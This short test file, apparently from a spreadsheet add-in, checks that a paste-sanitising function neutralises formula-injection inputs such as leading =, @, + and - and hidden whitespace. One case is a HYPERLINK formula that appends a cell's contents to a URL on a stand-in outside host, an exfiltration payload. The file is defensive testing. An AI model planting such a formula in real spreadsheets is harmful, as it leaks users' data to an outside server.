import { pasteable } from '../../src/taskpane/copy-text';

it.each([
  ['=HYPERLINK("https://x.example/?"&A1,"press")', '\'=HYPERLINK("https://x.example/?"&A1,"press")'],
  ['@SUM(1+1)\r\n=1+1', "'@SUM(1+1) =1+1"],
  ['Hillside\n=1+1\t=1+1\v=1+1', 'Hillside =1+1 =1+1 =1+1'],
  ['\t =1+1', "'=1+1"],
  ['\u00a0+1', "'+1"],
  ['-1', "'-1"],
  ['＝1+1', "'＝1+1"],
  ['"=1+1"', '\'"=1+1"'],
  ['True', 'True'],
  ['Zone 1', 'Zone 1'],
  ['HMO 2024', 'HMO 2024'],
  ['May 2030', 'May 2030'],
  ['12 High Street, FH1 2AB', '12 High Street, FH1 2AB'],
  ['1 Apr 2027', '1 Apr 2027'],
  ['£1,240', '£1,240'],
  ['100023336956', '100023336956'],
  ['', ''],
])('%j is copied for a sheet as %j', (text, copied) => {
  expect(pasteable(text)).toBe(copied);
});
